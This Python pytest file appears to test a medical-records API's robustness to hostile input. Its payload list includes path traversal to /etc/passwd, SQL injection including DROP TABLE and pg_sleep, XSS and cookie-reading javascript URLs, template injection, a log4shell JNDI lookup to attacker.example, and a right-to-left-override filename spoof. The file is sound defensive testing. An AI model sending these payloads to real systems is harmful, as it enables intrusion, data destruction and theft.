"""Hostile strings that are valid text (issue 11, item 2): path traversal, SQL, script and
template injection, and Unicode oddities (bidirectional overrides, zero-width and combining
characters, decomposed letters, astral emoji).

Where a field takes free text, such a string is just text: it is accepted, read back through
the API exactly as sent (not normalised, not escaped, not cut), harms no table and changes
nothing else, and is found in clear only where the schema keeps that field in clear (a staff
member's name), never in the audit trail's metadata. The same strings in path and query
parameters (ids, filters, paging) are refused with a 4xx, or, for a free-text filter, match
nothing; never a 500.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from phivault.runtime import Runtime
from phivault.web.app import create_app
from tests.clinical.world import API, book, expect, set_consent, write_record
from tests.factories import TestUser, new_email, signed_in
from tests.security.hostile import (
    assert_refused,
    example,
    path_of,
    resolve,
    rows_holding,
    table_counts,
)

PAYLOADS = {
    "traversal": "../../../../etc/passwd",
    "encoded traversal": "..%2f..%2f..%2fetc%2fpasswd",
    "windows traversal": "..\\..\\windows\\win.ini",
    "NUL as text": "passwd%00.png \\x00 \\u0000",
    "SQL drop": "'; DROP TABLE users;--",
    "SQL or": "' OR 1=1--",
    "SQL quote": '" OR ""="',
    "SQL bobby": "Robert'); DROP TABLE patient_profiles;--",
    "SQL sleep": "1; SELECT pg_sleep(5); SELECT sqlite_version()--",
    "script": "<script>alert(1)</script>",
    "javascript URL": "javascript:alert(document.cookie)",
    "attribute break": '"><img src=x onerror=alert(1)>',
    "template": "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "log4shell": "${jndi:ldap://attacker.example/a}",
    "format string": "%s%s%s%n%x",
    "right-to-left override": "Invoice \u202egpj.exe",
    "zero width": "zero\u200bwidth\u200cnon\u200djoiner\ufeffnbsp",
    "combining": "Z\u0337\u0322a\u0335l\u0336g\u0338o",
    "decomposed": "Cafe\u0301 Mu\u0308ller",
    "fullwidth": "\uff26\uff55\uff4c\uff4c\uff37\uff49\uff44\uff54\uff48",
    "astral": "\U0001f469\u200d\u2695\ufe0f \U0001d504 \U0001f600",
    "backslashes": "\\' \\\" \\\\ \\n",
}
# Hostile values for path and query parameters, besides the ones above.
PARAMETER_PAYLOADS = [*PAYLOADS.values(), "1 OR 1=1", "-1", "1e3", "0x10", "NaN", "Infinity",
                      "99999999999999999999999999", "", " ", "%", "%00", "%ff",
                      "a" * 8192]
# Stored in clear by design (a staff member's name is not PHI); everything else is sealed.
CLEAR_COLUMNS = {"staff_profiles.full_name", "staff_profiles.specialty"}


@dataclass
class Cast:
    patient: TestUser  # consents to data sharing, has booked `doctor`
    doctor: TestUser
    rescuer: TestUser  # a doctor with no relationship, who breaks the glass
    admin: TestUser
    auditor: TestUser
    bystander: TestUser  # another patient of `doctor`, whose chart must not change
    bystander_record: dict[str, Any]


@pytest.fixture
async def cast(runtime: Runtime, client: httpx.AsyncClient) -> Cast:
    patient, bystander = await signed_in(runtime, "patient"), await signed_in(runtime, "patient")
    doctor = await signed_in(runtime, "doctor", full_name="Dr Care",
                             specialty="General practice")
    for who in (patient, bystander):
        await set_consent(client, who, True)
        await book(client, who, doctor)
    record = await write_record(client, doctor, bystander.id)
    return Cast(patient, doctor, await signed_in(runtime, "doctor"),
                await signed_in(runtime, "admin"), await signed_in(runtime, "auditor"),
                bystander, record)


async def store_everywhere(client: httpx.AsyncClient, cast: Cast, value: str) -> dict[str, int]:
    """`value` in every free-text field of the API, each read back; the rows it made."""
    p, d = cast.patient, cast.doctor
    # A new patient: name, address, and the value inside the password.
    email, password = new_email("hostile"), f"{value} {secrets.token_urlsafe(12)}"
    expect(await client.post(f"{API}/auth/register", json={
        "email": email, "password": password, "full_name": value, "address": value}), 201)
    tokens = expect(await client.post(f"{API}/auth/login", json={
        "email": email, "password": password}), 200)
    newcomer = {"Authorization": f"Bearer {tokens['access_token']}"}
    me = expect(await client.get(f"{API}/me", headers=newcomer), 200)
    assert (me["full_name"], me["address"]) == (value, value)

    # A record, amended; a prescription.
    record = expect(await client.post(f"{API}/patients/{p.id}/records", headers=d.headers,
                                      json={"diagnosis": value, "prescriptions": [value, value],
                                            "notes": value}), 201)
    expect(await client.patch(f"{API}/records/{record['id']}", headers=d.headers,
                              json={"notes": f"{value} amended"}), 200)
    versions = expect(await client.get(f"{API}/records/{record['id']}/versions",
                                       headers=p.headers), 200)
    assert [(v["diagnosis"], v["prescriptions"], v["notes"]) for v in versions] == [
        (value, [value, value], value), (value, [value, value], f"{value} amended")]
    prescription = expect(await client.post(
        f"{API}/patients/{p.id}/prescriptions", headers=d.headers,
        json={"medication": value, "dosage": value, "instructions": value}), 201)
    listed = expect(await client.get(f"{API}/patients/{p.id}/prescriptions?limit=500",
                                     headers=p.headers), 200)
    (mine,) = [x for x in listed if x["id"] == prescription["id"]]
    assert (mine["medication"], mine["dosage"], mine["instructions"]) == (value, value, value)

    # A consultation's reason and notes.
    consultation = await book(client, p, d, reason=value)
    expect(await client.patch(f"{API}/consultations/{consultation['id']}", headers=d.headers,
                              json={"notes": value}), 200)
    seen = expect(await client.get(f"{API}/consultations?limit=500", headers=p.headers), 200)
    (booked,) = [c for c in seen if c["id"] == consultation["id"]]
    assert (booked["reason"], booked["notes"]) == (value, value)

    # A staff member's name and specialty, and a break-glass reason (sealed; the auditor reads
    # it back).
    expect(await client.post(f"{API}/users", headers=cast.admin.headers, json={
        "email": new_email("staff"), "full_name": value, "role": "doctor",
        "specialty": value}), 201)
    reason = f"{value} unconscious, no history"
    expect(await client.post(f"{API}/patients/{me['id']}/break-glass",
                             headers=cast.rescuer.headers, json={"reason": reason}), 201)
    events = expect(await client.get(
        f"{API}/audit", params={"action": "BREAK_GLASS", "patient_id": me["id"]},
        headers=cast.auditor.headers), 200)
    assert [e["break_glass_reason"] for e in events] == [reason]
    return {"users": 2, "patient_profiles": 1, "staff_profiles": 1, "medical_records": 1,
            "medical_record_versions": 2, "prescriptions": 1, "consultations": 1,
            "break_glass_grants": 1}


async def test_hostile_text_is_stored_exactly_and_harms_nothing(
        client: httpx.AsyncClient, runtime: Runtime, cast: Cast) -> None:
    tag = f"HS{secrets.token_hex(5)}"
    bystander_before = expect(await client.get(f"{API}/records/{cast.bystander_record['id']}",
                                               headers=cast.bystander.headers), 200)
    profile_before = expect(await client.get(f"{API}/me", headers=cast.bystander.headers), 200)
    before = await table_counts(runtime)
    expected: dict[str, int] = {}
    for payload in PAYLOADS.values():
        made = await store_everywhere(client, cast, f"{payload} {tag}")
        for table, rows in made.items():
            expected[table] = expected.get(table, 0) + rows
    after = await table_counts(runtime)

    # Every table is still there, none lost a row, and the ones written grew by what was made.
    assert set(after) == set(before)
    assert all(after[t] >= before[t] for t in before), (before, after)
    for table, rows in expected.items():
        assert after[table] - before[table] == rows, table
    for table in ("payments", "attachments", "attachment_segments", "care_endings",
                  "audit_queue_rejected"):
        assert after[table] == before[table], table
    # Nothing else changed: another patient's chart and profile are as they were.
    assert expect(await client.get(f"{API}/records/{cast.bystander_record['id']}",
                                   headers=cast.bystander.headers), 200) == bystander_before
    assert expect(await client.get(f"{API}/me", headers=cast.bystander.headers),
                  200) == profile_before
    # In clear only where the schema keeps the field in clear: never in audit metadata.
    assert set(await rows_holding(runtime, [tag])) <= CLEAR_COLUMNS


# Path and query parameters.

@dataclass(frozen=True)
class Parameter:
    method: str
    path: str
    where: str
    name: str
    body: Any

    def __str__(self) -> str:
        return f"{self.method} {self.path} {self.where}.{self.name}"


def parameters(spec: dict[str, Any]) -> list[Parameter]:
    found = []
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            content = operation.get("requestBody", {}).get("content", {})
            body = None
            if "application/json" in content:
                schema = resolve(content["application/json"]["schema"], spec)
                body = example(resolve((schema.get("oneOf") or [schema])[0], spec), spec)
            for parameter in operation.get("parameters", []):
                if parameter["in"] in ("path", "query"):
                    found.append(Parameter(method.upper(), path, parameter["in"],
                                           parameter["name"], body))
    return found


async def send(client: httpx.AsyncClient, parameter: Parameter, value: str,
               headers: dict[str, str]) -> httpx.Response:
    url = path_of(parameter.path)
    params: dict[str, str] = {}
    if parameter.where == "path":
        url = path_of(parameter.path.replace("{" + parameter.name + "}",
                                             quote(value, safe="")))
    else:
        params[parameter.name] = value
    return await client.request(parameter.method, url, params=params, headers=headers,
                                json=parameter.body)


async def test_hostile_parameters_are_refused_or_match_nothing(
        client: httpx.AsyncClient, runtime: Runtime, cast: Cast,
        record_property: Callable[[str, object], None]) -> None:
    spec = create_app(runtime=runtime).openapi()
    found = parameters(spec)
    names = {str(p) for p in found}
    for expected in ("GET /api/v1/audit query.resource_id", "GET /api/v1/audit query.offset",
                     "GET /api/v1/me/access-log query.limit", "GET /api/v1/me/export query.format",
                     "GET /api/v1/records/{record_id} path.record_id",
                     "DELETE /api/v1/me/sessions/{session_id} path.session_id"):
        assert expected in names, expected
    tag = f"HQ{secrets.token_hex(5)}"
    callers = [cast.patient, cast.doctor, cast.admin, cast.auditor]
    cases = 0
    for parameter in found:
        who: dict[str, str] = {}
        for caller in callers:
            probe = await send(client, parameter, f"{tag} probe", caller.headers)
            if probe.status_code not in (401, 403):
                who = caller.headers
                break
        for payload in PARAMETER_PAYLOADS:
            value = f"{payload} {tag}" if payload.strip() else payload
            response = await send(client, parameter, value, who)
            what = f"{parameter} = {value[:60]!r}"
            assert response.status_code < 500, (what, response.status_code, response.text[:300])
            if response.status_code >= 400:
                assert_refused(response, range(400, 500), what, needles=(tag,))
            else:
                # Only a free-text filter may take it, and then it matches nothing.
                assert parameter.where == "query", what
                assert response.json() == [] and response.headers["x-total-count"] == "0", \
                    (what, response.text[:300])
            cases += 1
    print(f"\nhostile parameters: {cases} cases over {len(found)} parameters")

    record_property("hostile_parameter_cases", cases)
    assert cases >= 900
    # No refusal left the value anywhere (an audit event's resource id or metadata included).
    assert await rows_holding(runtime, [tag]) == []
